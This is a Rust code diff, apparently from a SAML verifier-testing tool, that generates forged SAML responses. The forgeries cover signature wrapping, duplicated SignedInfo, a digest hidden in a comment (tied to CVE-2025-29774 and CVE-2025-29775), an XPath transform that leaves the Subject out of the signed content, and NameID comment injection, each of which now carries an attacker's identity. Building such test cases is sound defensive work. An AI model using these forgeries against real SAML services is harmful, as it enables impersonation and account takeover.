@@ -8,7 +8,7 @@ use crate::build::response_xml;
 use crate::sign::SignOptions;
 use samlscope_core::algorithm::{DigestAlgorithm, SignatureAlgorithm};
 use samlscope_core::xml::Span;
-use samlscope_core::xml::ns::DS;
+use samlscope_core::xml::ns::{DS, SAML};
 
 const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
 const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
@@ -48,6 +48,31 @@ pub(super) fn evil(fragment: &str, fx: &Fixture) -> Result<String, EditError> {
         &format!(">{}<", fx.spec.name_id),
         &format!(">{}<", fx.evil_name_id),
     )
+}
+
+/// The DigestValue a Reference to the Assertion carries once the NameID is the attacker's: what
+/// an attacker computes without any key (here by signing with the attacker's own).
+pub(super) fn evil_digest(fx: &Fixture) -> Result<String, EditError> {
+    let forged = sign(
+        &evil(&unsigned(fx), fx)?,
+        &[&fx.spec.assertion_id],
+        &fx.attacker,
+        &fx.options,
+    )?;
+    let w = Work::new(forged)?;
+    Ok(w.doc.text(w.first_named(DS, "DigestValue")?))
+}
+
+/// The Assertion's first SignedInfo with its DigestValue replaced by `digest`.
+pub(super) fn signed_info_with_digest(w: &Work, digest: &str) -> Result<String, EditError> {
+    let sig = w.signature_of(w.assertion()?)?;
+    let si = w.child(sig, DS, "SignedInfo")?;
+    let dv = w.first_named(DS, "DigestValue")?;
+    let (si_span, dv_span) = (w.doc.span(si), w.doc.span(dv));
+    let mut copy = w.xml[si_span.start..dv_span.start].to_owned();
+    copy.push_str(&format!("<ds:DigestValue>{digest}</ds:DigestValue>"));
+    copy.push_str(&w.xml[dv_span.end..si_span.end]);
+    Ok(copy)
 }
 
 pub(super) fn set_id(fragment: &str, old: &str, new: &str) -> Result<String, EditError> {
@@ -158,7 +183,7 @@ pub(super) fn xsw8(fx: &Fixture) -> Result<String, EditError> {
 // ---- 1.2 ------------------------------------------------------------------------------------
 
 pub(super) fn strip_all(fx: &Fixture) -> Result<String, EditError> {
-    strip_signatures(&signed_both(fx)?)
+    evil(&strip_signatures(&signed_both(fx)?)?, fx)
 }
 
 pub(super) fn signature_value_span(
@@ -170,7 +195,7 @@ pub(super) fn signature_value_span(
 }
 
 pub(super) fn empty_value(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(signed_assertion(fx)?)?;
+    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
     let span = signature_value_span(&w, w.assertion()?)?;
     Ok(splice(
         &w.xml,
@@ -180,24 +205,14 @@ pub(super) fn empty_value(fx: &Fixture) -> Result<String, EditError> {
 }
 
 pub(super) fn corrupt_digest(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(signed_assertion(fx)?)?;
+    // The NameID is the attacker's and the DigestValue matches it: only the SignatureValue,
+    // still over the original SignedInfo, gives the forgery away.
+    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
     let dv = w.first_named(DS, "DigestValue")?;
-    let text = w.doc.text(dv);
-    let flipped: String = text
-        .chars()
-        .enumerate()
-        .map(|(i, c)| {
-            if i == 0 {
-                if c == 'A' { 'B' } else { 'A' }
-            } else {
-                c
-            }
-        })
-        .collect();
     Ok(splice(
         &w.xml,
         w.doc.span(dv),
-        &format!("<ds:DigestValue>{flipped}</ds:DigestValue>"),
+        &format!("<ds:DigestValue>{}</ds:DigestValue>", evil_digest(fx)?),
     ))
 }
 
@@ -220,7 +235,7 @@ pub(super) fn sig_in_extensions(fx: &Fixture) -> Result<String, EditError> {
     let w = Work::new(signed_assertion(fx)?)?;
     let a = w.assertion()?;
     let donor = standalone(&w, w.signature_of(a)?);
-    let unsigned = strip_signatures(&w.xml)?;
+    let unsigned = evil(&strip_signatures(&w.xml)?, fx)?;
     let u = Work::new(unsigned)?;
     let status = u.status()?;
     Ok(insert(
@@ -273,35 +288,42 @@ pub(super) fn multi_reference(fx: &Fixture) -> Result<String, EditError> {
     })
 }
 
+/// CVE-2025-29774's form: the original SignedInfo stays first (its SignatureValue verifies) and
+/// a second one carries the digest of the tampered Assertion, for a verifier that checks the
+/// signature over one SignedInfo and the References of another.
 pub(super) fn multi_signedinfo(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(signed_assertion(fx)?)?;
-    let sig = w.signature_of(w.assertion()?)?;
-    let si = w.child(sig, DS, "SignedInfo")?;
-    let copy = w.node_text(si).to_owned();
-    Ok(insert(&w.xml, w.doc.span(si).end, &copy))
+    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
+    let si = w.child(w.signature_of(w.assertion()?)?, DS, "SignedInfo")?;
+    let forged = signed_info_with_digest(&w, &evil_digest(fx)?)?;
+    Ok(insert(&w.xml, w.doc.span(si).end, &forged))
 }
 
+/// The same forged SignedInfo, inside a foreign wrapper before the real one, for a verifier
+/// that searches the Signature's descendants for References.
 pub(super) fn wrapped_signedinfo(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(signed_assertion(fx)?)?;
-    let sig = w.signature_of(w.assertion()?)?;
-    let si = w.child(sig, DS, "SignedInfo")?;
-    let copy = w.node_text(si).to_owned();
+    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
+    let si = w.child(w.signature_of(w.assertion()?)?, DS, "SignedInfo")?;
+    let forged = signed_info_with_digest(&w, &evil_digest(fx)?)?;
     Ok(insert(
         &w.xml,
         w.doc.span(si).start,
-        &format!("<WRAPPER>{copy}</WRAPPER>"),
+        &format!("<WRAPPER>{forged}</WRAPPER>"),
     ))
 }
 
+/// CVE-2025-29775's form: the NameID is the attacker's and a comment at the start of
+/// DigestValue holds the tampered Assertion's digest. Canonicalization drops the comment, so the
+/// SignatureValue still verifies; a verifier that reads DigestValue's first child (xml-crypto
+/// before 6.0.1) compares against the comment and accepts.
 pub(super) fn digest_comment(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(signed_assertion(fx)?)?;
+    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
     let dv = w.first_named(DS, "DigestValue")?;
     let at = w.doc.element(dv).map_or(0, |e| e.start_tag.end);
-    Ok(insert(&w.xml, at, "<!--forged-->"))
+    Ok(insert(&w.xml, at, &format!("<!--{}-->", evil_digest(fx)?)))
 }
 
 pub(super) fn missing_id(fx: &Fixture) -> Result<String, EditError> {
-    let xml = signed_assertion(fx)?;
+    let xml = evil(&signed_assertion(fx)?, fx)?;
     replace_first(&xml, &format!(" ID=\"{}\"", fx.spec.assertion_id), "")
 }
 
@@ -382,11 +404,37 @@ pub(super) fn xf_xslt(fx: &Fixture) -> Result<String, EditError> {
     )
 }
 
+/// An XPath filter that leaves the Subject out of the signed content, signed as such: the
+/// digest is that of the Assertion without its Subject, so a verifier that runs the filter
+/// accepts any NameID — here the attacker's.
 pub(super) fn xf_xpath(fx: &Fixture) -> Result<String, EditError> {
-    add_transform(
-        fx,
-        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>",
-    )
+    const XPATH: &str = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>";
+    let w = Work::new(unsigned(fx))?;
+    let subject = w.child(w.assertion()?, SAML, "Subject")?;
+    let without_subject = splice(&w.xml, w.doc.span(subject), "");
+    let signed = Work::new(sign(
+        &without_subject,
+        &[&fx.spec.assertion_id],
+        &fx.attacker,
+        &fx.options,
+    )?)?;
+    let digest = signed.doc.text(signed.first_named(DS, "DigestValue")?);
+    let filtered = resign_assertion(fx, |si| {
+        let with_xpath = replace_first(si, "<ds:Transforms>", &format!("<ds:Transforms>{XPATH}"))?;
+        let start = with_xpath
+            .find("<ds:DigestValue>")
+            .ok_or(EditError::Missing("DigestValue"))?
+            + "<ds:DigestValue>".len();
+        let end = with_xpath
+            .find("</ds:DigestValue>")
+            .ok_or(EditError::Missing("DigestValue"))?;
+        Ok(format!(
+            "{}{digest}{}",
+            &with_xpath[..start],
+            &with_xpath[end..]
+        ))
+    })?;
+    evil(&filtered, fx)
 }
 
 pub(super) fn xf_too_many(fx: &Fixture) -> Result<String, EditError> {
@@ -428,11 +476,17 @@ pub(super) fn dtd_attlist(fx: &Fixture) -> Result<String, EditError> {
     ))
 }
 
+/// What the IdP signs in `comment-nameid`: an attacker-registered name that starts with the
+/// identity the attacker wants.
+pub(super) fn comment_signed_name(fx: &Fixture) -> String {
+    format!("{}.evil.example", fx.evil_name_id)
+}
+
 pub(super) fn comment_nameid(fx: &Fixture) -> Result<String, EditError> {
-    // The IdP signs an attacker-registered name that *starts* with the victim's; the attacker
-    // inserts an empty comment so that a first-text-node reader sees only the victim's name.
+    // The IdP signs the attacker's own account, whose name starts with the victim's; the
+    // attacker inserts an empty comment so that a first-text-node reader sees only the victim's.
     let mut spec = fx.spec.clone();
-    spec.name_id = format!("{}.evil.example", fx.spec.name_id);
+    spec.name_id = comment_signed_name(fx);
     let xml = sign(
         &response_xml(&spec),
         &[&spec.assertion_id],
@@ -442,7 +496,7 @@ pub(super) fn comment_nameid(fx: &Fixture) -> Result<String, EditError> {
     replace_first(
         &xml,
         &format!(">{}<", spec.name_id),
-        &format!(">{}<!---->.evil.example<", fx.spec.name_id),
+        &format!(">{}<!---->.evil.example<", fx.evil_name_id),
     )
 }
 
